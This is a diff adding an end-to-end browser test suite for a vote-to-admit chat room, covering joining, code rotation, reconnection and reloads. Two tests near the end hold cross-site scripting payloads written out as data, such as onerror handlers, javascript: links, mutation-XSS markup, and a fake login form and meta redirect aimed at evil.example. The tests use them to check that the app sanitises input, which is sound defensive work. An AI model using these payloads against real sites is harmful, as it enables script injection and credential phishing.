@@ -1,0 +1,505 @@
+// What people do with the chat, played with any frontend.
+import assert from 'node:assert/strict';
+import { describe } from 'node:test';
+import { serverForFile } from '../harness/server.mjs';
+import { sleep, until } from '../harness/wait.mjs';
+import { browserForFile, eventually, scenario } from './harness.mjs';
+import { networkErrors, refusals } from './tabs.mjs';
+
+// Short enough to wait for, long enough for a reload on a busy machine.
+const absenceGrace = 3000;
+const rotation = 6000;
+const approvalTimeout = 4000;
+
+/**
+ * Declares the tests of one frontend: `Tab` knows its pages, `env` makes the
+ * server serve them. Traits, all of them facts about the pages:
+ * `notices`: comings and goings are told in the conversation;
+ * `partial`: the text on a card after the first of two yeses, if it is told;
+ * `replays`: a reloaded page shows the conversation again;
+ * `encrypted`: what is said goes through the server sealed;
+ * `leaves`: the page's way out ends the membership at once.
+ */
+export function playAll({ name, Tab, env, notices, partial, replays, encrypted, leaves }) {
+  // Two at a time: most of a scenario is waiting.
+  describe(name, { concurrency: 2 }, () => {
+    const chromium = browserForFile();
+    const server = serverForFile({
+      env: { TEMPLATES_DIR: undefined, ...env, ABSENCE_GRACE: `${absenceGrace}ms` },
+    });
+    const hasty = serverForFile({
+      env: { TEMPLATES_DIR: undefined, ...env, CODE_ROTATION: `${rotation}ms`, APPROVAL_TIMEOUT: `${approvalTimeout}ms` },
+    });
+    const play = (title, steps) => scenario(title, { chromium, server, Tab }, steps);
+    const playHastily = (title, steps) => scenario(title, { chromium, server: hasty, Tab }, steps);
+
+    const tells = async (tab, text) => {
+      if (notices) await eventually(async () => assert.match((await tab.notices()).join('\n'), text));
+    };
+
+    play('two people meet and talk', async (stage) => {
+      const ana = await stage.room('Ana');
+      await ana.counts(1);
+      const ben = await stage.admit([ana], 'Ben');
+      await ana.counts(2);
+      await ben.counts(2);
+      await tells(ana, /^Ben\b/m);
+
+      await ana.say('hello Ben');
+      await ben.reads('Ana: hello Ben');
+      await ben.say('hello Ana');
+      await ana.say('how are you?');
+      const conversation = ['Ana: hello Ben', 'Ben: hello Ana', 'Ana: how are you?'];
+      await eventually(async () => assert.equal((await ana.lines()).length, 3));
+      // Ben's line and Ana's second one race; the order is the server's and the same for both.
+      const heard = (await ana.lines()).map(({ who, what }) => `${who}: ${what}`);
+      assert.deepEqual([...heard].sort(), [...conversation].sort());
+      await ben.reads(...heard);
+      assert.equal(await ana.code(), await ben.code());
+    });
+
+    play('everybody present has to agree', async (stage) => {
+      const ana = await stage.room('Ana');
+      const ben = await stage.admit([ana], 'Ben');
+      const cleo = await stage.tab();
+      await cleo.knock(await ben.code(), 'Cleo');
+      await ana.vote('Cleo', true);
+      if (partial) await ben.partial('Cleo', partial);
+      // What Ana says after her vote is handled after it: the vote alone did not let Cleo in.
+      await ana.say('what do you think?');
+      await ben.reads('Ana: what do you think?');
+      assert.equal(cleo.path, '/join');
+      assert.deepEqual(await ben.knocking(), ['Cleo']);
+
+      await ben.vote('Cleo', true);
+      await cleo.entered();
+      for (const tab of [ana, ben, cleo]) await tab.counts(3);
+      await cleo.say('thank you');
+      for (const tab of [ana, ben]) await tab.reads('Ana: what do you think?', 'Cleo: thank you');
+      // Nothing from before her time.
+      await cleo.reads('Cleo: thank you');
+    });
+
+    play('one no is enough', async (stage) => {
+      const ana = await stage.room('Ana');
+      const ben = await stage.admit([ana], 'Ben');
+      const cleo = await stage.tab();
+      await cleo.knock(await ana.code(), 'Cleo');
+      await ana.vote('Cleo', true);
+      await ben.vote('Cleo', false);
+      await cleo.refused();
+      for (const tab of [ana, ben]) await tab.counts(2);
+      // The room is as it was, and a second try is possible.
+      await cleo.knock(await ana.code(), 'Cleo');
+      await ben.vote('Cleo', false);
+      await cleo.refused();
+      await ben.say('still here');
+      await ana.reads('Ben: still here');
+    });
+
+    playHastily('a request that nobody answers times out by itself', async (stage) => {
+      const ana = await stage.room('Ana');
+      const cleo = await stage.tab();
+      await cleo.knock(await ana.newCode(await ana.code(), rotation + 3000), 'Cleo');
+      const asked = Date.now();
+      await ana.card('Cleo').waitFor();
+      await cleo.refused(/timed out/);
+      assert.ok(Date.now() - asked > approvalTimeout - 1500, 'the members had their time');
+      await ana.counts(1);
+    });
+
+    playHastily('the code turns when the countdown said so', async (stage) => {
+      const ana = await stage.room('Ana');
+      const first = await ana.code();
+      const promised = Date.now() + await ana.seconds() * 1000;
+      const second = await ana.newCode(first, rotation + 3000);
+      const turned = Date.now();
+      assert.ok(Math.abs(turned - promised) < 2000, `turned ${turned - promised} ms after the promised moment`);
+      const third = await ana.newCode(second, rotation + 3000);
+      assert.ok(Math.abs(Date.now() - turned - rotation) < 1500, 'the next one came a period later');
+
+      const late = await stage.tab();
+      late.expect(refusals);
+      await late.home();
+      await late.submitKnock(first, 'Late');
+      await late.page.getByText('Room not found.').waitFor();
+      const ben = await stage.tab();
+      await ben.knock(third, 'Ben');
+      await ana.vote('Ben', true);
+      await ben.entered();
+      // The newcomer's page and the room's clock agree.
+      assert.ok(await ben.seconds() <= rotation / 1000);
+      const fourth = await ana.newCode(third, rotation + 3000);
+      await eventually(async () => assert.equal(await ben.code(), fourth));
+    });
+
+    play('a requested code reaches everybody and restarts the clock', async (stage) => {
+      const ana = await stage.room('Ana');
+      const ben = await stage.admit([ana], 'Ben');
+      const old = await ana.code();
+      await ben.requestCode();
+      const fresh = await ben.newCode(old);
+      await eventually(async () => assert.equal(await ana.code(), fresh));
+      const cleo = await stage.tab();
+      await cleo.knock(fresh, 'Cleo');
+      for (const tab of [ana, ben]) await tab.vote('Cleo', true);
+      await cleo.entered();
+      const left = await cleo.seconds();
+      assert.ok(left > 285 && left <= 300, `the clock was restarted: ${left} s`);
+    });
+
+    play('who leaves is counted out', async (stage) => {
+      const ana = await stage.room('Ana');
+      const ben = await stage.admit([ana], 'Ben');
+      await ana.counts(2);
+      const gone = Date.now();
+      await ben.leave();
+      await ana.counts(1);
+      if (leaves) assert.ok(Date.now() - gone < absenceGrace, 'leaving on purpose needs no grace');
+      await tells(ana, /^Ben\b[^\n]*\n[^]*^Ben\b/m);
+      await ana.say('alone again');
+      await ana.reads('Ana: alone again');
+    });
+
+    if (!leaves) {
+      play('who left comes back without a new vote', async (stage) => {
+        const ana = await stage.room('Ana');
+        const ben = await stage.admit([ana], 'Ben');
+        const { path } = ben;
+        await ben.leave();
+        await ana.counts(1);
+        await ben.page.goto(ben.url + path);
+        await ben.entered();
+        for (const tab of [ana, ben]) await tab.counts(2);
+        await ben.say('me again');
+        await ana.reads('Ben: me again');
+      });
+    }
+
+    play('the only member reloads and keeps the room', async (stage) => {
+      const ana = await stage.room('Ana');
+      const code = await ana.code();
+      await ana.say('note one');
+      await ana.say('note two');
+      await ana.reads('Ana: note one', 'Ana: note two');
+      await ana.reload();
+      const before = replays ? ['Ana: note one', 'Ana: note two'] : [];
+      await ana.reads(...before);
+      assert.equal(await ana.code(), code);
+      await ana.counts(1);
+      await ana.say('note three');
+      await ana.reads(...before, 'Ana: note three');
+      // Still a member with a vote.
+      const ben = await stage.admit([ana], 'Ben');
+      await ben.counts(2);
+    });
+
+    play('a reload beside others is not noticed by them', async (stage) => {
+      const ana = await stage.room('Ana');
+      await ana.say('before Ben');
+      const ben = await stage.admit([ana], 'Ben');
+      await ben.say('one');
+      await ana.say('two');
+      await ben.counts(2);
+      await ben.reload();
+      await ana.counts(2);
+      await ben.counts(2);
+      // Since Ben's admission, not before.
+      if (replays) {
+        await eventually(async () => assert.deepEqual((await ben.lines()).map(({ what }) => what).sort(), ['one', 'two']));
+      }
+      await ben.say('three');
+      await eventually(async () => assert.deepEqual((await ana.lines()).at(-1), { who: 'Ben', what: 'three' }));
+      // The grace passes without anybody being told to have gone.
+      await sleep(absenceGrace + 500);
+      await ana.counts(2);
+      if (notices) assert.equal((await ana.notices()).filter((text) => text.includes('Ben')).length, 1);
+    });
+
+    play('a lost connection loses no message', async (stage) => {
+      const ana = await stage.room('Ana');
+      const ben = await stage.admit([ana], 'Ben', { network: await stage.network() });
+      await ana.say('1');
+      await ben.reads('Ana: 1');
+
+      // First the bytes vanish: the server sends 2 and 3 to a connection that looks alive.
+      ben.network.blackhole();
+      await ana.say('2');
+      await ana.say('3');
+      await ana.reads('Ana: 1', 'Ana: 2', 'Ana: 3');
+      // Then it breaks, and 4 finds nobody.
+      await ben.unplug();
+      await ana.say('4');
+      await ana.reads('Ana: 1', 'Ana: 2', 'Ana: 3', 'Ana: 4');
+      ben.network.restore();
+      await ben.connected();
+      await ben.reads('Ana: 1', 'Ana: 2', 'Ana: 3', 'Ana: 4');
+
+      await ben.say('5');
+      const all = ['Ana: 1', 'Ana: 2', 'Ana: 3', 'Ana: 4', 'Ben: 5'];
+      await ana.reads(...all);
+      await ben.reads(...all);
+      assert.deepEqual(ben.dialogs, []);
+    });
+
+    play('what was typed offline is said on return', async (stage) => {
+      const ana = await stage.room('Ana');
+      const ben = await stage.admit([ana], 'Ben', { network: await stage.network() });
+      await ben.unplug();
+      await ben.say('typed offline');
+      await ben.say('and more');
+      await ana.say('where is Ben?');
+      await ana.reads('Ana: where is Ben?');
+      ben.network.restore();
+      const all = ['Ana: where is Ben?', 'Ben: typed offline', 'Ben: and more'];
+      await ana.reads(...all);
+      await ben.reads(...all);
+      await ana.counts(2);
+    });
+
+    play('away for longer than the grace, and back as the same member', async (stage) => {
+      const ana = await stage.room('Ana', { network: await stage.network() });
+      const ben = await stage.admit([ana], 'Ben', { network: await stage.network() });
+      await ana.counts(2);
+      await ben.unplug();
+      await ana.counts(1);
+      await ana.say('gone');
+      await ana.reads('Ana: gone');
+      // Nobody is there now; the room waits.
+      await ana.unplug();
+      await sleep(absenceGrace + 500);
+      ana.network.restore();
+      ben.network.restore();
+      for (const tab of [ana, ben]) {
+        await tab.connected();
+        await tab.counts(2);
+      }
+      await ben.say('back');
+      for (const tab of [ana, ben]) {
+        await tab.reads('Ana: gone', 'Ben: back');
+        assert.deepEqual(tab.dialogs, []);
+      }
+    });
+
+    play('two tabs of one browser are two people', async (stage) => {
+      const ana = await stage.room('Ana', { network: await stage.network() });
+      const ben = await stage.admit([ana], 'Ben', { sharing: ana });
+      let heard = [];
+      const talk = async (...texts) => {
+        for (const [tab, text] of [[ana, texts[0]], [ben, texts[1]]]) {
+          await tab.say(text);
+          heard.push(`${tab.name}: ${text}`);
+          for (const reader of [ana, ben]) await reader.reads(...heard);
+        }
+      };
+      for (const tab of [ana, ben]) await tab.counts(2);
+      await talk('a1', 'b1');
+
+      for (const tab of [ana, ben]) await tab.reload();
+      for (const tab of [ana, ben]) await tab.counts(2);
+      if (!replays) heard = [];
+      await talk('a2', 'b2');
+
+      // Both at once, as when the one network they share is gone.
+      ana.network.unplug();
+      for (const tab of [ben, ana]) {
+        tab.expect(networkErrors);
+        await tab.disconnected();
+      }
+      ana.network.restore();
+      for (const tab of [ana, ben]) await tab.connected();
+      await talk('a3', 'b3');
+      for (const tab of [ana, ben]) await tab.counts(2);
+      for (const tab of [ana, ben]) assert.deepEqual(tab.dialogs, []);
+
+      // Each has a vote of their own.
+      const cleo = await stage.tab();
+      await cleo.knock(await ana.code(), 'Cleo');
+      await ana.vote('Cleo', true);
+      await ben.vote('Cleo', true);
+      await cleo.entered();
+      await cleo.counts(3);
+    });
+
+    play('one browser in two rooms: closing one leaves the other alone', async (stage) => {
+      const ana = await stage.room('Ana');
+      const other = await stage.room('Ana', { sharing: ana });
+      assert.notEqual(ana.path, other.path);
+      await other.close();
+      await sleep(absenceGrace + 500);
+      await ana.counts(1);
+      const ben = await stage.admit([ana], 'Ben');
+      await ana.say('still Ana');
+      await ben.reads('Ana: still Ana');
+    });
+
+    for (const yes of [true, false]) {
+      play(`a verdict before the waiting page is connected: ${yes ? 'admitted' : 'declined'}`, async (stage) => {
+        const ana = await stage.room('Ana');
+        const code = await ana.code();
+        const ben = await stage.tab();
+        await ben.home();
+        // The page's scripts hang in the network until the verdict is in.
+        let release;
+        const released = new Promise((resolve) => { release = resolve; });
+        await ben.page.route(/\.m?js(\?|$)|\/socket\.io\//, async (route) => {
+          await released;
+          await route.continue();
+        });
+        await ben.submitKnock(code, 'Ben');
+        await ana.vote('Ben', yes);
+        if (yes) await ana.say('come in');
+        await (yes ? ana.reads('Ana: come in') : eventually(async () => assert.deepEqual(await ana.knocking(), [])));
+        release();
+        if (!yes) {
+          await ben.refused();
+          return;
+        }
+        await ben.entered();
+        for (const tab of [ana, ben]) await tab.counts(2);
+      });
+    }
+
+    play('the last missing voter leaves, and the vote is complete', async (stage) => {
+      const ana = await stage.room('Ana');
+      const ben = await stage.admit([ana], 'Ben');
+      const cleo = await stage.tab();
+      await cleo.knock(await ana.code(), 'Cleo');
+      await ben.card('Cleo').waitFor();
+      await ana.vote('Cleo', true);
+      await ben.close();
+      await cleo.entered();
+      for (const tab of [ana, cleo]) await tab.counts(2);
+    });
+
+    play('a closed waiting page does not block the next one', async (stage) => {
+      const ana = await stage.room('Ana');
+      const ben = await stage.tab();
+      await ben.knock(await ana.code(), 'Ben');
+      await ana.card('Ben').waitFor();
+      await ben.close();
+      await ana.vote('Ben', true);
+      const cleo = await stage.tab();
+      await cleo.knock(await ana.code(), 'Cleo');
+      await ana.vote('Cleo', true);
+      await cleo.entered();
+      // Whoever never came is not counted for ever.
+      await ana.counts(2);
+    });
+
+    play('a stranger who knows the address of a room stays outside', async (stage) => {
+      const ana = await stage.room('Ana');
+      const eve = await stage.tab();
+      await eve.page.goto(eve.url + ana.path);
+      await eve.backHome();
+      await ana.counts(1);
+    });
+
+    play('names with a quote and in other scripts look right everywhere', async (stage) => {
+      const names = ["Seán O'Brien", '李小龍', 'Ольга Ш', 'ليلى'];
+      const members = [await stage.room(names[0])];
+      for (const name of names.slice(1)) {
+        const tab = await stage.tab();
+        await tab.knock(await members[0].code(), name);
+        assert.match(await tab.page.locator(tab.at.applicant).innerText(), new RegExp(name));
+        for (const member of members) await member.vote(name, true);
+        await tab.entered();
+        members.push(tab);
+      }
+      const said = [];
+      for (const member of members) {
+        await member.say(`from ${member.name}`);
+        said.push(`${member.name}: from ${member.name}`);
+        // Also that each page takes its own lines for its own: see lines().
+        for (const reader of members) await reader.reads(...said);
+      }
+      for (const name of names.slice(1)) await tells(members[0], new RegExp(`^${name}`, 'm'));
+      await members[0].reload();
+      await members[0].say('again');
+      await eventually(async () => assert.deepEqual((await members[1].lines()).at(-1), { who: names[0], what: 'again' }));
+      assert.deepEqual((await members[0].lines()).at(-1), { who: names[0], what: 'again' });
+    });
+
+    play('names with markup are refused', async (stage) => {
+      const ana = await stage.room('Ana');
+      const code = await ana.code();
+      const eve = await stage.tab();
+      eve.expect(refusals);
+      for (const bad of ['<img src=x onerror=a()>', 'Eve\\', '${alert(1)}`']) {
+        for (const submit of [() => eve.submitCreate(bad), () => eve.submitKnock(code, bad)]) {
+          await eve.home();
+          // Whatever the form itself checks, the server has the last word.
+          await eve.page.evaluate(() => { for (const form of document.forms) form.noValidate = true; });
+          const answer = eve.page.waitForResponse((response) => response.request().method() === 'POST');
+          await submit();
+          assert.equal((await answer).status(), 400, bad);
+          await eve.page.getByText(/character/).first().waitFor();
+        }
+      }
+      assert.deepEqual(eve.dialogs, []);
+      assert.deepEqual(await ana.knocking(), []);
+    });
+
+    play('hostile messages do nothing', async (stage) => {
+      const ana = await stage.room('Ana');
+      const eve = await stage.admit([ana], 'Eve');
+      const attacks = [
+        '<img src=x onerror="window.pwned=1">',
+        '<script>window.pwned=2</script>',
+        '<svg><script>window.pwned=3</script></svg>',
+        '<svg onload="window.pwned=4">',
+        '<a href="javascript:window.pwned=5" onclick="window.pwned=6">click</a>',
+        '<a href="jAvA\tscript:window.pwned=7">click</a>',
+        '<a href="data:text/html,<script>opener.pwned=8</script>">click</a>',
+        '<iframe srcdoc="<script>parent.pwned=9</script>"></iframe>',
+        '<b onmouseover="window.pwned=10" style="position:fixed;inset:0">hover</b>',
+        '<details open ontoggle="window.pwned=11">x</details>',
+        '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=12&gt;">',
+        '"><img src=x onerror=window.pwned=13>',
+        '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
+        '<meta http-equiv=refresh content="0;url=https://evil.example">',
+        // What looks like an envelope and is none.
+        '{"salt":"00","content":"<img src=x onerror=window.pwned=14>"}',
+        '{"salt":"<img src=x onerror=window.pwned=15>","content":"U2FsdGVkX18="}',
+      ];
+      for (const attack of attacks) await eve.attack(attack);
+      await eve.say('the end');
+      await eventually(async () => assert.deepEqual((await ana.lines()).at(-1), { who: 'Eve', what: 'the end' }));
+      for (const tab of [ana, eve]) {
+        const log = tab.page.locator(tab.at.log);
+        const foreign = await log.evaluate((element) => [...element.querySelectorAll('*')]
+          .filter((e) => /^(img|script|svg|iframe|style|form|input|meta|details|math|object|embed|link)$/i.test(e.localName)
+            || [...e.attributes].some((a) => /^on|^style$/i.test(a.name) || /^\s*(javascript|data):/i.test(a.value)))
+          .map((e) => e.outerHTML));
+        assert.deepEqual(foreign, []);
+        for (const link of await log.locator('a').all()) await link.click({ timeout: 2000 }).catch(() => {});
+        for (const bold of await log.locator('b').all()) await bold.hover({ timeout: 2000 }).catch(() => {});
+        assert.equal(await tab.page.evaluate(() => window.pwned), undefined);
+        assert.deepEqual(tab.dialogs, []);
+      }
+    });
+
+    if (!encrypted) {
+      play('harmless markup in a message is kept', async (stage) => {
+        const ana = await stage.room('Ana');
+        const ben = await stage.admit([ana], 'Ben');
+        await ben.say('<b>bold</b> & <em>soft</em> 1 < 2 <a href="https://example.org/" title="t">there</a>');
+        await eventually(async () => assert.equal((await ana.lines()).at(-1)?.what, 'bold & soft 1 < 2 there'));
+        const what = ana.page.locator(ana.at.line).last().locator(ana.at.what);
+        assert.equal(await what.locator('b').innerText(), 'bold');
+        assert.equal(await what.locator('em').innerText(), 'soft');
+        const link = what.locator('a');
+        assert.equal(await link.getAttribute('href'), 'https://example.org/');
+        assert.match(await link.getAttribute('rel'), /noopener/);
+      });
+    }
+
+    play('a long message arrives', async (stage) => {
+      const ana = await stage.room('Ana');
+      const ben = await stage.admit([ana], 'Ben');
+      const text = 'ö'.repeat(1000);
+      await ben.say(text);
+      await ana.reads(`Ben: ${text}`);
+    });
+  });
+}
